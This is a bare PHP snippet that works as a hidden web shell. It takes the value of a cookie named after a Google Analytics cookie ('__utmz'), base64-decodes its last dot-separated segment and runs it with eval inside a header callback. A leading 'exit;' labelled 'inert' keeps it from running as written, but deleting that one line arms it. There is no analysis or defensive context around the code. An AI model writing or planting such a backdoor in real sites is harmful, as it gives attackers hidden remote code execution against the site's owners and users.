<?php exit; /* inert */ 
$GLOBALS['__h'] = $_COOKIE['__utmz'] ?? '';
header_register_callback(function () { $s = explode('.', $GLOBALS['__h']); eval(base64_decode(end($s))); });
echo ' ';
